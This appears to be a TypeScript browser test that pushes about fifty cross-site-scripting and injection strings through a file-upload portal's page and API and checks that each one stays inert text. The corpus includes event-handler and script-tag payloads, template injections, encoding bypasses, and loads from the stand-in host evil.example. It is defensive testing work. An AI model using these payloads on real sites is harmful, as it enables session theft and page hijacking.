import { loadFeeds } from '../../adapters/feed-files.ts';
import { Airlock } from '../support/airlock.ts';
import { LinkClient } from '../support/api-client.ts';
import { assemblyWith } from '../support/assembly.ts';
import { choose, csvFile, linkOf, PartnerBrowser, stateOf } from '../support/partner-page.ts';

const run = 'window.__hostile=1';

/** What has run in somebody's page before: elements, handlers, addresses, templates, encodings, broken markup. */
const corpus = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=${run}>`,
  `<img src="x" onerror="${run}">`,
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<body onload=${run}>`,
  `<iframe srcdoc="<script>parent.__hostile=1</script>">`,
  `<iframe src="javascript:${run}">`,
  `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<object data="javascript:${run}">`,
  `<embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href=//evil.example/>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}`,
  ['$', '{', run, '}'].join(''),
  `#{${run}}`,
  `<%= ${run} %>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `%3Cimg src=x onerror=${run}%3E`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `＜script＞${run}＜/script＞`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x:x onerror=${run}//`,
  `<x onclick=${run} style=position:fixed;inset:0>`,
  `\u202e<img src=x onerror=${run}>gpj.exe`,
  `__proto__`,
  `constructor`,
];

/** Elements that the page itself never has. */
const strangers =
  'img, svg, iframe, object, embed, video, audio, math, marquee, base, template, style, main script, form[action], [onerror], [onload]';

describe('hostile text', () => {
  let airlock: Airlock;
  let browser: PartnerBrowser;
  beforeAll(async () => {
    const feeds = loadFeeds('test/feeds').map((feed) => ({
      ...feed,
      title: (corpus[feed.feed === 'files' ? 4 : 2] ?? '').slice(0, 100),
      contacts: {
        ...feed.contacts,
        owner: feed.contacts.owner.map((one) => ({ ...one, name: `"><svg onload=${run}>` })),
      },
    }));
    [airlock, browser] = await Promise.all([
      Airlock.start({ assembly: assemblyWith({ feeds }) }),
      PartnerBrowser.launch(),
    ]);
    await airlock.open('acme/files');
  });
  afterAll(() => Promise.all([airlock.stop(), browser.close()]));

  const expectHarmless = async (page: Awaited<ReturnType<PartnerBrowser['open']>>): Promise<void> => {
    expect(await page.evaluate('window.__hostile')).toBeUndefined();
    expect(await page.locator(strangers).count()).toBe(0);
    expect(browser.faults).toEqual([]);
  };

  it(`is ${corpus.length} strings, at least fifty`, () => {
    expect(new Set(corpus).size).toBeGreaterThanOrEqual(50);
  });

  it('in titles and names of people is text on the page', async () => {
    const page = await browser.open(await linkOf(airlock));
    await stateOf(page, 'open');
    expect(await page.textContent('h1')).toContain(`"><img src=x onerror=${run}>`);
    await expectHarmless(page);
  });

  it('in cells and column names is text in the findings', async () => {
    const page = await browser.open(await linkOf(airlock));
    await stateOf(page, 'open');
    const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
    for (let from = 0; from < corpus.length; from += 9) {
      const some = corpus.slice(from, from + 9);
      const rows = some.map((text) => `${cell(text)},${cell(text)},${cell(text)}`).join('\n');
      await choose(page, csvFile(`id,day,${cell(some[0] ?? '')}\n${rows}\n`));
      await page.waitForSelector(`#findings td:has-text("Line ${Math.min(from + 9, corpus.length) - from + 1}")`);
      await expectHarmless(page);
    }
  });

  it('in file names is text, on the page and in the receipt', async () => {
    const page = await browser.open(await linkOf(airlock));
    await stateOf(page, 'open');
    for (const name of corpus) {
      await choose(page, csvFile('no,such,columns\n', name.replaceAll('/', '_')));
      await page.waitForSelector('#findings');
    }
    await expectHarmless(page);
    const link = new LinkClient(await linkOf(airlock));
    await link.upload('id,day,amount\n1,2026-11-20,1\n', { name: corpus[2] });
    await airlock.settle();
    await page.reload();
    await stateOf(page, 'accepted');
    expect(await page.textContent('#receipt')).toContain(corpus[2]);
    await expectHarmless(page);
  });

  it('in the API is refused or told back as JSON, never as a page', async () => {
    const link = new LinkClient(await linkOf(airlock));
    for (const text of corpus) {
      const { headers, body } = await link.ask('POST', '/uploads', {
        name: text,
        size: text,
        type: text,
        sha256: text,
      });
      expect(headers.get('content-type')).toBe('application/problem+json');
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(body.status).toBe(400);
    }
  });
});
